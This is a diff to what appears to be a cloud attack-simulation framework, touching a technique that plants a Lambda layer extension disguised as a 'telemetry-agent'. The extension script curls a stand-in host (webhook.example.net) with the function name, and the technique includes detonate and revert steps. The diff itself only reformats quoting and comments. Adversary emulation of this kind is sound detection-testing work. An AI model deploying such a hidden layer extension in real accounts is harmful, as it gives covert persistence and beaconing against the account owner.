@@ -8,7 +8,7 @@ from cloudsoc.simulate.technique import Ctx, Json, Technique, technique
 from cloudsoc.simulate.techniques.persistence._lambda import create_function, delete_function, zipped
 
 # An external extension: Lambda starts every executable under /opt/extensions with the function.
-EXTENSION = "#!/bin/bash\ncurl -s https://webhook.example.net/register -d \"$AWS_LAMBDA_FUNCTION_NAME\" &\nexec sleep infinity\n"
+EXTENSION = '#!/bin/bash\ncurl -s https://webhook.example.net/register -d "$AWS_LAMBDA_FUNCTION_NAME" &\nexec sleep infinity\n'
 
 
 @technique
@@ -25,7 +25,8 @@ class LambdaLayerExtension(Technique):
             LayerName=f"telemetry-agent-{ctx.run_id}", Content={"ZipFile": zipped({"extensions/telemetry-agent": EXTENSION})},
             CompatibleRuntimes=["python3.12"],
         )  # fmt: skip
-        return {"function": name, "layer": layer["LayerArn"], "layer_version": layer["LayerVersionArn"], "version": layer["Version"]}
+        return {"function": name, "layer": layer["LayerArn"], "layer_version": layer["LayerVersionArn"],
+                "version": layer["Version"]}  # fmt: skip
 
     def detonate(self, ctx: Ctx, state: Json) -> None:
         client("lambda", session=ctx.attacker()).update_function_configuration(
@@ -34,5 +35,6 @@ class LambdaLayerExtension(Technique):
 
     def revert(self, ctx: Ctx, state: Json) -> None:
         delete_function(ctx, state["function"])
+        # Lambda answers a deleted layer version with success, so this is idempotent as it stands.
         lam = client("lambda", session=ctx.admin())
-        lam.delete_layer_version(LayerName=state["layer"], VersionNumber=state["version"])  # idempotent in Lambda
+        lam.delete_layer_version(LayerName=state["layer"], VersionNumber=state["version"])
